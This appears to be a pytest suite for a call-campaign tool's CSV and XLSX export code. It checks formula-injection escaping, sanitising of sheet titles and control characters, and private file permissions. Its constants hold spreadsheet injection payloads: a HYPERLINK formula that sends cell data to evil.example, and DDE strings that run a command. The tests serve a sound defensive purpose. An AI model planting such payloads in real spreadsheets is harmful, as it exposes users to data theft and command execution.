"""Exports of hostile and careless text: no formula reaches Excel, nothing crashes, 0600 files."""

from __future__ import annotations

import csv
import os
import stat
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import asyncpg
import openpyxl
import pytest

from ccd.store.export import export_rows, open_sink, sheet_title
from ccd.store.outfiles import csv_cell, remove_stale_parts

CAMPAIGN = "=evil/q:a?[x]*"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
async def hostile(seeded: asyncpg.Connection) -> asyncpg.Connection:
    """A campaign, lead and attempt whose every text is hostile or careless."""
    await seeded.execute(
        "INSERT INTO campaigns (id, name, mode) OVERRIDING SYSTEM VALUE VALUES (7, $1, 'POWER')",
        CAMPAIGN,
    )
    await seeded.execute(
        "INSERT INTO leads (id, campaign_id, phone, name, fields, priority)"
        " OVERRIDING SYSTEM VALUE VALUES (70, 7, '+74951234567', $1, $2, -5),"
        " (71, 7, '+74951234568', $3, '{}', 0)",
        HYPERLINK, f'{{"field": "{DDE}"}}', "Bell\x07 Tab\tName",
    )  # fmt: skip
    await seeded.execute(
        "INSERT INTO attempts (id, campaign_id, lead_id, phone, state, created_at, note,"
        " cause_txt) VALUES (gen_random_uuid(), 7, 70, '+74951234567', 'ended', now(), $1,"
        " '-1+1')",
        NOTE,
    )
    return seeded


def _private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize("what", ["attempts", "leads"])
async def test_xlsx_export_writes_text_cells_never_formulas(
    hostile: asyncpg.Connection, tmp_path: Path, what: str
) -> None:
    out = tmp_path / f"{what}.xlsx"
    out.write_text("an older export, world-readable")
    out.chmod(0o644)
    n = await export_rows(hostile, what, CAMPAIGN, "xlsx", out)  # type: ignore[arg-type]
    assert n == (1 if what == "attempts" else 2)
    assert _private(out)
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    wb = openpyxl.load_workbook(out)
    ws = wb.active
    assert ws.title == f"{what} =evil_q_a__x__"
    header = [c.value for c in ws[1]]
    row = {name: cell for name, cell in zip(header, ws[2], strict=True)}
    name_col = "lead_name" if what == "attempts" else "name"
    assert row[name_col].value == HYPERLINK  # the text as typed, shown as text
    assert row[name_col].data_type == "s" and row[name_col].quotePrefix
    assert row["campaign"].value == CAMPAIGN and row["campaign"].data_type == "s"
    assert row["phone"].value == "+74951234567" and row["phone"].data_type == "s"
    assert not row["phone"].quotePrefix  # a phone number is data, not a formula
    if what == "attempts":
        assert row["note"].value == NOTE and row["note"].data_type == "s"
        assert row["cause_txt"].value == "-1+1" and row["cause_txt"].quotePrefix
    else:
        assert DDE in row["fields"].value
        assert ws[3][header.index("name")].value == "Bell\ufffd Tab\tName"


@pytest.mark.parametrize("what", ["attempts", "leads"])
async def test_csv_export_neutralises_formulas_and_keeps_phones(
    hostile: asyncpg.Connection, tmp_path: Path, what: str
) -> None:
    out = tmp_path / f"{what}.csv"
    await export_rows(hostile, what, CAMPAIGN, "csv", out)  # type: ignore[arg-type]
    assert _private(out)
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    row = rows[0]
    assert row["campaign"] == "'" + CAMPAIGN
    assert row["phone"] == "+74951234567"
    if what == "attempts":
        assert row["lead_name"] == "'" + HYPERLINK
        assert row["note"] == "'" + NOTE
        assert row["cause_txt"] == "'-1+1"
        assert row["id"] and row["created_at"][:2] == "20"  # not text: untouched
    else:
        assert row["name"] == "'" + HYPERLINK
        assert row["priority"] == "-5"  # a number stays a number
        assert row["on_blacklist"] == "f"
        assert rows[1]["name"] == "Bell\x07 Tab\tName"


def test_csv_cell_follows_the_owasp_rule() -> None:
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "=", "+7 495 123"):
        assert csv_cell(text) == "'" + text
    for text in ("+74951234567", "-5", "+3.5", "Müller", "", "a=b", "'=1"):
        assert csv_cell(text) == text


def test_report_sink_escapes_and_writes_a_private_file(tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    with open_sink("csv", ["campaign", "n"], out, tz=ZoneInfo("UTC")) as sink:
        sink.write([CAMPAIGN, -3])
    assert _private(out)
    assert out.read_text().splitlines()[1] == f"'{CAMPAIGN},-3"
    xlsx = tmp_path / "report.xlsx"
    with open_sink("xlsx", ["campaign"], xlsx, tz=ZoneInfo("UTC"), sheet=CAMPAIGN) as sink:
        sink.write([CAMPAIGN])
    assert _private(xlsx)
    assert openpyxl.load_workbook(xlsx).active["A2"].value == CAMPAIGN


def test_sheet_titles_excel_accepts() -> None:
    assert sheet_title("leads q/a:b?[x]*\\") == "leads q_a_b__x___"
    assert sheet_title("'quoted'") == "quoted"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("''") == "sheet"


def test_stale_parts_of_dead_writers_are_removed(tmp_path: Path) -> None:
    out = tmp_path / "leads[1].csv"
    dead = tmp_path / "leads[1].csv.999999999.part"
    live = tmp_path / f"leads[1].csv.{os.getpid()}.part"
    other = tmp_path / "leads[1].csv.bak.part"
    for p in (dead, live, other):
        p.write_text("x")
    remove_stale_parts(out)
    assert not dead.exists() and live.exists() and other.exists()
